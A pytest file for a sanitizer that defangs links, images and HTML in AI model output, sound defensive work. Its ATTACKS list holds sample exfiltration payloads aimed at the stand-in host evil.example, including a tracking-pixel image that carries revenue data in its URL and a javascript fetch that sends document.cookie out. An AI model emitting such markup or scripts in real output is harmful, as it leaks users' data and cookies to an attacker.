"""Model output with links and images becomes inert text."""

from __future__ import annotations

import re

import pytest

from engine.privacy import defang, find_urls, make_inert

ATTACKS = [
    "![status](https://evil.example/pixel.png?d=Q3-REVENUE-4.2M)",
    "![](http://evil.example/a.gif)",
    '![logo](<https://evil.example/l.png> "title")',
    "![x][img]\n\n[img]: https://evil.example/ref.png",
    "[click here](https://evil.example/login?next=/)",
    "<https://evil.example/auto>",
    "visit www.evil.example/path now",
    '<img src="https://evil.example/i.gif" width=1>',
    "<IMG SRC=https://evil.example/j.gif>",
    '<a href="https://evil.example/x">ok</a>',
    "javascript:fetch('https://evil.example/'+document.cookie)",
    "<iframe src='https://evil.example/'></iframe>",
    "data:text/html;base64,PHNjcmlwdD4=",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_attacks_are_defanged(text: str) -> None:
    out = make_inert(text)
    assert not find_urls(out), out
    assert not re.search(r"!\[[^\]]*\]\(", out) and "<img" not in out.lower() and "<a " not in out.lower()
    assert "evil.example" not in out  # the host is shown as evil[.]example


def test_ordinary_text_is_unchanged() -> None:
    text = "Revenue grew 3.5% to $4.2M (see [1]). Next steps: a) call Dana; b) send the deck."
    assert make_inert(text) == text


def test_defang_keeps_the_url_readable() -> None:
    assert defang("https://evil.example/x?a=b") == "hxxps://evil[.]example/x?a=b"
    assert defang("mailto:a@b.example") == "mailto[:]a@b[.]example"
    assert make_inert("[docs](https://docs.example/a)") == "docs (hxxps://docs[.]example/a)"
